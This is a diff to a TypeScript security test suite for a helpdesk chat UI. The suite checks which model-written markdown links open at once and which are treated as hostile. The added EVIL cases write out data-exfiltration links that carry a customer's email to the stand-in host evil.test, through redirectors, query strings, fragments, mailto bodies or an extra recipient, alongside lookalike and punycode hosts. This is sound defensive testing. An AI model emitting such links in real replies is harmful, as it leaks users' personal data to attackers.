@@ -15,7 +15,9 @@ import { attackEach } from './attack';
  */
 const DESK = 'https://desk.example';
 const KB_SITE = 'https://help.northwind.example';
-const TRUSTED = new Set([DESK, KB_SITE, 'mailto:desk.example']);
+/** As the background lists them: the helpdesk's site and mail domain, and the knowledge base's exact links. */
+const KB_LINK = `${KB_SITE}/returns`;
+const TRUSTED = new Set([DESK, 'mailto:desk.example', KB_LINK, 'mailto:returns@northwind.example']);
 const SECRET = 'maria.lindqvist%40example.com';
 
 interface Case {
@@ -43,6 +45,13 @@ const EVIL: Case[] = [
   { what: 'userinfo that looks like the helpdesk', markdown: `[desk](https://desk.example@evil.test/t?d=${SECRET})`, host: 'evil.test', url: `https://desk.example@evil.test/t?d=${SECRET}` },
   { what: 'a Cyrillic lookalike of the helpdesk host', markdown: `[desk](https://desk.exаmple/t?d=${SECRET})`, host: 'desk.xn--exmple-4nf', url: `https://desk.xn--exmple-4nf/t?d=${SECRET}` },
   { what: 'a punycode host', markdown: `[desk](https://xn--dsk-8cd.example/t)`, host: 'xn--dsk-8cd.example', url: 'https://xn--dsk-8cd.example/t' },
+  { what: 'a link to the helpdesk whose query carries the customer’s email', markdown: `[Open ticket #1047 in the helpdesk](${DESK}/tickets/1047?email=${SECRET})`, host: 'desk.example', url: `${DESK}/tickets/1047?email=${SECRET}` },
+  { what: 'a link to the helpdesk through its own redirector', markdown: `[Ticket](${DESK}/l.php?url=https%3A%2F%2Fevil.test%2F%3Fd%3D${SECRET})`, host: 'desk.example', url: `${DESK}/l.php?url=https%3A%2F%2Fevil.test%2F%3Fd%3D${SECRET}` },
+  { what: 'a link to the helpdesk whose fragment carries data', markdown: `[Ticket](${DESK}/tickets/7#${SECRET})`, host: 'desk.example', url: `${DESK}/tickets/7#${SECRET}` },
+  { what: 'a mail link to the helpdesk’s domain carrying a body', markdown: `[Write](mailto:help@desk.example?body=${SECRET})`, host: 'desk.example', url: `mailto:help@desk.example?body=${SECRET}` },
+  { what: 'a mail link to the helpdesk’s domain with a second recipient', markdown: `[Write](mailto:help@desk.example,collect@evil.test)`, host: 'desk.example', url: 'mailto:help@desk.example,collect@evil.test' },
+  { what: 'the knowledge base’s exact link with a query added', markdown: `[Returns](${KB_LINK}?email=${SECRET})`, host: 'help.northwind.example', url: `${KB_LINK}?email=${SECRET}` },
+  { what: 'another page of a site the knowledge base links to', markdown: `[Status](${KB_SITE}/status)`, host: 'help.northwind.example', url: `${KB_SITE}/status` },
   { what: 'a lookalike of the knowledge-base site', markdown: `[help](https://help.northwind.example.evil.test/t?d=${SECRET})`, host: 'help.northwind.example.evil.test', url: `https://help.northwind.example.evil.test/t?d=${SECRET}` },
 ];
 
@@ -126,10 +135,10 @@ describe('security: links the model writes', () => {
     },
   );
 
-  it('opens a link to the helpdesk or a knowledge-base site at once, its host shown', async () => {
-    await show(`[Ticket](${DESK}/tickets/7) and [returns](${KB_SITE}/returns) and [mail](mailto:help@desk.example)`);
-    expect(outbound()).toEqual([`${DESK}/tickets/7`, `${KB_SITE}/returns`, 'mailto:help@desk.example']);
-    expect([...root.querySelectorAll('[data-testid="link-host"]')].map((h) => h.textContent)).toEqual(['desk.example', 'help.northwind.example', 'desk.example']);
+  it('opens a page of the helpdesk, or an address the knowledge base links to, at once, its host shown', async () => {
+    await show(`[Ticket](${DESK}/tickets/7) and [returns](${KB_LINK}) and [mail](mailto:help@desk.example) and [them](mailto:returns@northwind.example)`);
+    expect(outbound()).toEqual([`${DESK}/tickets/7`, KB_LINK, 'mailto:help@desk.example', 'mailto:returns@northwind.example']);
+    expect([...root.querySelectorAll('[data-testid="link-host"]')].map((h) => h.textContent)).toEqual(['desk.example', 'help.northwind.example', 'desk.example', 'northwind.example']);
     expect(root.querySelector('[data-testid="ext-link-toggle"]')).toBeNull();
   });
 
